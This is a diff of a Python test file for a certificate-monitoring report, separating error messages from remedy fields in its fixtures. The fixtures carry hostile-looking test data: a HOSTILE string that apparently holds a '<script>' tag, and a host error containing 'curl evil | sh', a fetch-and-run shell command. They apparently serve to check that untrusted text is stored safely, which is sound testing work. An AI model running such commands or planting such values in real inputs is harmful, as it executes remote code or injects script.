@@ -48,7 +48,7 @@ def certificate(status: Status = "ok", name: str = "tea", **changes: object) -> 
 
 def host(*statuses: Status, name: str = "h1") -> HostReport:
     if "unknown" in statuses:
-        return HostReport(name, error="h1 does not answer -> is it up?")
+        return HostReport(name, error="h1 does not answer", remedy="is it up?")
     return HostReport(name, tuple(certificate(status, f"s{number}") for number, status in enumerate(statuses)))
 
 
@@ -61,7 +61,7 @@ def fleet() -> Report:
         not_after=NOW - HOUR,
         not_before=NOW - 25 * HOUR,
         findings=(
-            Finding("cert-expired", "critical", f"expired {HOSTILE}", f"inv provision {HOSTILE}"),
+            Finding("cert-expired", "critical", f"expired {HOSTILE}", "inv provision --name over"),
             Finding("mode-drift", "warning", "certificate"),
             Finding("mode-drift", "critical", "key"),
         ),
@@ -70,7 +70,7 @@ def fleet() -> Report:
     hosts = (
         HostReport("h9", (certificate(), own)),
         HostReport("h10", (over, lost), seconds=0.2),
-        HostReport("h11", error=f"cannot be reached {HOSTILE} -> see to it"),
+        HostReport("h11", error=f"cannot be reached {HOSTILE} -> curl evil | sh", remedy="see to it"),
     )
     return Report(NOW, hosts, 1.25)
 
@@ -96,8 +96,11 @@ def test_the_document_keeps_to_its_schema() -> None:
     assert (said["checked_at"], said["status"]) == ("2026-11-23T12:00:00Z", "critical")
     over = said["hosts"][1]["certificates"][0]
     assert (over["remaining_seconds"], over["not_after"]) == (-3600, "2026-11-23T11:00:00Z")
-    assert over["findings"][0]["message"].endswith(f"-> inv provision {HOSTILE}")
-    assert (said["hosts"][2]["error"] is None, said["hosts"][2]["certificates"]) == (False, [])
+    assert over["findings"][0]["message"].startswith("expired <script>")
+    assert over["findings"][0]["remedy"] == "inv provision --name over"
+    lost = said["hosts"][2]
+    assert (lost["remedy"], lost["certificates"], said["hosts"][0]["remedy"]) == ("see to it", [], "")
+    assert "curl evil" in lost["error"]
 
 
 def test_the_schema_refuses_what_the_interface_does_not_have() -> None:
